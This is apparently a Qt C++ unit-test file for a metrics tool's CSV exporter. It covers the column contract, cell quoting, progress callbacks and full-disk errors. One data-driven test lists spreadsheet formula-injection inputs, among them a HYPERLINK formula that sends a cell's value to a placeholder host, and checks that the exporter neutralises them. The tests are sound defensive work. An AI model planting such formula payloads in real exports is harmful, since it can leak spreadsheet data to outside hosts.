// SPDX-FileCopyrightText: 2026 The Fanlight developers
// SPDX-License-Identifier: GPL-3.0-or-later
#include "metrics/csv.h"
#include "metrics/csv_reader.h"
#include "support/room.h"

#include <QBuffer>
#include <QFile>
#include <QtTest>

using namespace fanlight;

namespace {
const QByteArray Columns
    = "time,instance,connections,connects_per_s,disconnects_per_s,published_per_s,delivered_per_s,"
      "bytes_per_s,redis_received_per_s,write_p50_ms,write_p95_ms,write_p99_ms,ack_p50_ms,"
      "ack_p95_ms,ack_p99_ms,redis_lag_p99_ms,rss_bytes,bytes_per_connection,kernel_socket_bytes,"
      "backlog_bytes,slow_clients,dropped_events,open_files,file_limit\r\n";

// A device that takes so many bytes and then is full, as a disk may be.
class FullDevice : public QIODevice {
public:
    explicit FullDevice(qint64 room)
        : m_room(room)
    {
        open(QIODevice::WriteOnly);
    }

protected:
    qint64 readData(char*, qint64) override { return -1; }
    qint64 writeData(const char*, qint64 size) override
    {
        const qint64 taken = std::min(size, m_room);
        m_room -= taken;
        if (taken == size)
            return size;
        setErrorString(QStringLiteral("No space left on device"));
        return taken > 0 ? taken : -1;
    }

private:
    qint64 m_room;
};

QByteArray written(const std::vector<MetricsSample>& samples)
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    csv::write(buffer, samples, QStringLiteral("a"));
    return buffer.data();
}
} // namespace

class TestCsv : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void theHeaderIsTheContract() { QCOMPARE(csv::header(), Columns); }

    void aFullSampleFillsEveryCell()
    {
        MetricsSample s;
        s.timeMs = 1'795'507'200'000;
        s.intervalMs = 500;
        s.connections = 10000;
        s.connects = 3;
        s.disconnects = 1;
        s.published = 2;
        s.delivered = 20000;
        s.bytes = 1'000'001;
        s.redisReceived = 1;
        s.write.record(32);
        s.ack.record(63, 2);
        s.redisLag.record(1);
        s.rssBytes = 12'345'678'901;
        s.bytesPerConnection = 210.5;
        s.kernelSocketBytes = 4096;
        s.backlogBytes = 7;
        s.slowClients = 2;
        s.droppedEvents = 9;
        s.openFiles = 10042;
        s.fileLimit = 20000;
        QCOMPARE(csv::row(s, QStringLiteral("node-1")),
            QByteArray("2026-11-24T08:00:00.000Z,node-1,10000,6,2,4,40000,2000002,2,0,0,0,0,0,0,0,"
                       "12345678901,210.5,4096,7,2,9,10042,20000\r\n"));
    }

    void latenciesAreMillisecondsWithThreeDecimals()
    {
        MetricsSample s;
        s.write.record(1'234'567);
        const QByteArray p50 = csv::row(s, {}).split(',').at(9);
        QCOMPARE(p50, QByteArray::number(s.write.percentileMs(50), 'f', 3));
    }

    void percentilesBeyondTheContractStandBehindIt()
    {
        MetricsSample s;
        s.write.record(1'000'000);
        s.ack.record(2'000'000);
        const csv::Percentiles chosen{50, 90, 95, 99, 99.9};
        QCOMPARE(csv::header(chosen),
            csv::header().chopped(2) + ",write_p90_ms,ack_p90_ms,write_p99.9_ms,ack_p99.9_ms\r\n");
        QCOMPARE(csv::row(s, {}, chosen), csv::row(s, {}).chopped(2) + ",1,2,1,2\r\n");
        QCOMPARE(csv::row({}, {}, chosen), csv::row({}, {}).chopped(2) + ",,,,\r\n");
        QCOMPARE(csv::header({50, 95, 99}), csv::header());
    }

    void anAcknowledgementIsNeverBelowTheWriteBesideIt()
    {
        MetricsSample s;
        s.write.record(1'000'000, 100);
        s.ack.record(500'000);
        const QList<QByteArray> cells = csv::row(s, {}).split(',');
        for (const int percentile : {0, 1, 2})
            QCOMPARE(cells.at(12 + percentile), cells.at(9 + percentile));
    }

    void unknownFiguresAreEmptyCells()
    {
        QCOMPARE(csv::row(MetricsSample{}, QStringLiteral("a")),
            QByteArray("1970-01-01T00:00:00.000Z,a,0,,,,,,,,,,,,,,,,,0,0,0,,\r\n"));
    }

    void rowsHaveAsManyCellsAsTheHeader()
    {
        QCOMPARE(csv::row(MetricsSample{}, {}).count(','), csv::header().count(','));
    }

    void cellsAreQuotedOnlyWhenTheyHaveToBe_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QByteArray>("cell");
        QTest::newRow("plain") << QStringLiteral("node-1") << QByteArray("node-1");
        QTest::newRow("empty") << QString() << QByteArray();
        QTest::newRow("blank") << QStringLiteral("a b") << QByteArray("a b");
        QTest::newRow("comma") << QStringLiteral("a,b") << QByteArray("\"a,b\"");
        QTest::newRow("quote") << QStringLiteral("a\"b") << QByteArray("\"a\"\"b\"");
        QTest::newRow("line feed") << QStringLiteral("a\nb") << QByteArray("\"a\nb\"");
        QTest::newRow("carriage return") << QStringLiteral("a\rb") << QByteArray("\"a\rb\"");
        QTest::newRow("beyond ASCII") << QStringLiteral("Zürich") << QByteArray("Zürich");
    }
    void cellsAreQuotedOnlyWhenTheyHaveToBe()
    {
        QFETCH(QString, text);
        QFETCH(QByteArray, cell);
        QCOMPARE(csv::cell(text), cell);
    }

    void textOfStrangersIsNoFormula_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QByteArray>("cell");
        QTest::newRow("=") << QStringLiteral("=1+1") << QByteArray("'=1+1");
        QTest::newRow("+") << QStringLiteral("+1+1") << QByteArray("'+1+1");
        QTest::newRow("-") << QStringLiteral("-1+1") << QByteArray("'-1+1");
        QTest::newRow("@") << QStringLiteral("@SUM(A1)") << QByteArray("'@SUM(A1)");
        QTest::newRow("tab") << QStringLiteral("\t=1") << QByteArray("'\t=1");
        QTest::newRow("carriage return") << QStringLiteral("\r=1") << QByteArray("\"'\r=1\"");
        QTest::newRow("line feed") << QStringLiteral("\n=1") << QByteArray("\"'\n=1\"");
        QTest::newRow("full width") << QString(QChar(0xff1d)) + u'1'
                                    << QByteArray("'\xef\xbc\x9d"
                                                  "1");
        QTest::newRow("quoted") << QStringLiteral("=HYPERLINK(\"http://x/?\"&A1,\"open\")")
                                << QByteArray(
                                       "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"open\"\")\"");
        QTest::newRow("a sign alone") << QStringLiteral("-") << QByteArray("'-");
        QTest::newRow("defused before") << QStringLiteral("'=1") << QByteArray("''=1");
        QTest::newRow("number") << QStringLiteral("-3.5") << QByteArray("-3.5");
        QTest::newRow("small number") << QStringLiteral("-1e-05") << QByteArray("-1e-05");
        QTest::newRow("apostrophe") << QStringLiteral("'tis") << QByteArray("'tis");
        QTest::newRow("sign within") << QStringLiteral("a=1") << QByteArray("a=1");
    }
    void textOfStrangersIsNoFormula()
    {
        QFETCH(QString, text);
        QFETCH(QByteArray, cell);
        QCOMPARE(csv::cell(text), cell);
        QBuffer buffer;
        buffer.setData(cell);
        QVERIFY(buffer.open(QIODevice::ReadOnly));
        CsvReader reader(buffer);
        const auto row = reader.next();
        QVERIFY(row && row->problem.isEmpty());
        QString back = csv::textOfCell(row->cells.at(0));
        // the reader has one kind of line break
        QCOMPARE(back, QString(text).replace(u'\r', u'\n'));
    }

    void writesHeaderAndAllRows()
    {
        QCOMPARE(written({}), Columns);
        const std::vector<MetricsSample> samples(1000);
        const QByteArray text = written(samples);
        QVERIFY(text.startsWith(Columns));
        QCOMPARE(text.count("\r\n"), 1001);
        QCOMPARE(text, Columns + csv::row({}, QStringLiteral("a")).repeated(1000));
    }

    void progressEndsAtTheTotal()
    {
        QBuffer buffer;
        buffer.open(QIODevice::WriteOnly);
        std::size_t last = 0;
        const QString error = csv::write(
            buffer, std::vector<MetricsSample>(700), {}, [&](std::size_t done, std::size_t total) {
                const bool advances = done > last && done <= total && total == 700;
                last = done;
                return advances;
            });
        QVERIFY(error.isEmpty());
        QCOMPARE(last, 700U);
    }

    void stopsWhenAskedTo()
    {
        QBuffer buffer;
        buffer.open(QIODevice::WriteOnly);
        int asked = 0;
        const QString error = csv::write(buffer, std::vector<MetricsSample>(5000), {},
            [&](std::size_t, std::size_t) { return ++asked < 2; });
        QVERIFY(error.isEmpty());
        QCOMPARE(asked, 2);
        QVERIFY(buffer.data().count("\r\n") < 5000);
    }

    void aFullDeviceIsReported_data()
    {
        QTest::addColumn<qint64>("room");
        QTest::newRow("at once") << qint64(0);
        QTest::newRow("inside the header") << qint64(10);
        QTest::newRow("half-way") << qint64(100'000);
    }
    void aFullDeviceIsReported()
    {
        QFETCH(qint64, room);
        FullDevice device(room);
        QCOMPARE(csv::write(device, std::vector<MetricsSample>(5000), {}),
            QStringLiteral("No space left on device"));
    }

    void aFullDiskIsReportedEvenForFewRows()
    {
        QFile full(QStringLiteral("/dev/full"));
        if (!full.open(QIODevice::WriteOnly))
            QSKIP("This system has no /dev/full.");
        QCOMPARE(csv::write(full, std::vector<MetricsSample>(1), {}),
            QStringLiteral("No space left on device"));
    }

    void aClosedDeviceIsReported()
    {
        QFile closed(QStringLiteral("never-opened"));
        QVERIFY(!csv::write(closed, {}, {}).isEmpty());
    }
};

ROOM_TEST(TestCsv, QCoreApplication)
#include "tst_csv.moc"
